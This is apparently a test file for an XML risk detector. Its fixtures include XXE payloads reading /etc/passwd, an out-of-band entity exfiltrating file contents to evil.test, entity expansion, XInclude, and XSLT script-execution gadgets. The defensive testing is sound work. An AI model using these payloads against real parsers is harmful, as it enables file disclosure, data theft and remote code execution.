import { describe, expect, test } from "vitest";
import { readXml } from "../../../src/features/structure/xml.ts";
import { expectLinear, expectSound } from "./steps.ts";

const nothing = {
  internalSubset: false,
  entity: false,
  parameterEntity: false,
  externalEntity: false,
  externalSubset: false,
  fromFile: false,
  fromWeb: false,
  fromOther: false,
  used: false,
  nested: false,
  includes: false,
  runs: false,
};

describe("what a parser of XML would fetch, expand or run", () => {
  test.each([
    [
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      {
        internalSubset: true,
        entity: true,
        externalEntity: true,
        fromFile: true,
        fromWeb: false,
        used: true,
      },
    ],
    [
      '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.test/x.dtd"> %d;]>',
      { entity: true, parameterEntity: true, externalEntity: true, fromWeb: true, used: true },
    ],
    ["<!DOCTYPE r [<!ENTITY x SYSTEM 'php://filter/read=a/resource=b'>]>", { fromOther: true, used: false }],
    ['<!ENTITY x PUBLIC "any" "jar:http://evil.test/a.jar!/b">', { externalEntity: true, fromOther: true }],
    ['<!ENTITY x SYSTEM "\\\\evil.test\\share">', { externalEntity: true, fromOther: true }],
    ['<!ENTITY x SYSTEM "c:/windows/win.ini">', { externalEntity: true, fromFile: true }],
    ['<!ENTITY x SYSTEM "/dev/random">', { externalEntity: true, fromFile: true }],
    [
      '<!DOCTYPE r [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;">]><r>&c;</r>',
      { nested: true, used: true, externalEntity: false },
    ],
    ["<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM 'http://evil.test/?%file;'>\">", { nested: true }],
    ["<!ENTITY % all '&#x3c;!ENTITY x \"y\">'>", { nested: true }],
    [
      '<!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r/>',
      { externalSubset: true, fromWeb: true, entity: false },
    ],
    [
      '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.test/x.dtd">',
      { externalSubset: true },
    ],
    ["<!doctype r system 'file:///a'>", { externalSubset: true, fromFile: true }],
    ['<xi:include href="file:///etc/passwd" parse="text"/>', { includes: true }],
    ['<a:include xmlns:a="http://www.w3.org/2001/XInclude" href="x"/>', { includes: true }],
    ['<include xmlns="http://www.w3.org/2001/XInclude" href="x"/>', { includes: true }],
    ['<?xml-stylesheet type="text/xsl" href="http://evil.test/x.xsl"?><a/>', { includes: true }],
    ['<xsl:include href="http://evil.test/x.xsl"/>', { includes: true }],
    ["<xsl:value-of select=\"document('/etc/passwd')\"/>", { runs: true }],
    ["<xsl:value-of select=\"system-property('xsl:vendor')\"/>", { runs: true }],
    ['<msxsl:script language="C#" implements-prefix="u">x</msxsl:script>', { runs: true }],
    ['<xsl:stylesheet xmlns:php="http://php.net/xsl">', { runs: true }],
    ['<t:transform xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime">', { runs: true }],
  ])("%j", (text, expected) => {
    expect(readXml(text)).toMatchObject(expected);
  });

  test.each([
    "<!DOCTYPE html>",
    "<!doctype html><html><body>&nbsp;&copy;</body></html>",
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">',
    '<!DOCTYPE html SYSTEM "about:legacy-compat">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd">',
    '<?xml version="1.0" encoding="UTF-8"?><note><to>A &amp; B</to></note>',
    '<rss version="2.0"><channel><title>News</title></channel></rss>',
    '<xs:include schemaLocation="common.xsd"/>',
    '<xsl:stylesheet version="1.0"><xsl:import href="common.xsl"/><xsl:template match="/"/></xsl:stylesheet>',
    '<xsl:value-of select="name"/>',
    '<jsp:include page="header.jsp"/>',
    '<esi:include src="/header"/>',
    '<include file="a.rng"/><include href="b.rng"/>',
    "<svg:script>x</svg:script>",
    "a < b && c > d; an &entity; of no kind",
    "<p>Entities are declared by an ENTITY declaration</p>",
    "<!-- a comment about <!ELEMENT note (to)> -->",
    '<script>document("x")</script>',
    '<?xml-stylesheet type="text/css"?>',
    'I <3 SYSTEM "of a down"',
  ])("and this is plain: %j", (text) => {
    expect(readXml(text)).toEqual(nothing);
  });

  test("an entity of characters is declared, and nothing else", () => {
    expect(readXml('<!DOCTYPE a [<!ENTITY nbsp "&#160;"><!ENTITY amp2 "&amp;">]>')).toEqual({
      ...nothing,
      internalSubset: true,
      entity: true,
    });
  });
});

const pieces = [
  "<!DOCTYPE a ",
  "<!ENTITY a ",
  "<!ENTITY % a ",
  "SYSTEM ",
  "PUBLIC ",
  '"',
  "'",
  "file:",
  "http://",
  "[",
  "]>",
  "&a;",
  "%a;",
  "<xi:include ",
  "href=",
  "<xsl:a ",
  "document(",
  "<?xml-stylesheet ",
  ">",
  "/",
  "<",
  "&",
  "x",
  " ",
  ":",
  "\\",
];

test("reads whatever comes, and leaves nothing out", () => {
  expectSound(readXml, pieces);
});

test("takes steps in proportion to the text", () => {
  expectLinear(readXml, [
    ...pieces,
    '<!ENTITY a "b',
    "<!ENTITY a SYSTEM '",
    "<!ENTITY a 'b'>&b;",
    "<xi:include '",
    "<xi:include a=b ",
    "<a:",
    "&a",
    '<?xml-stylesheet "',
  ]);
});
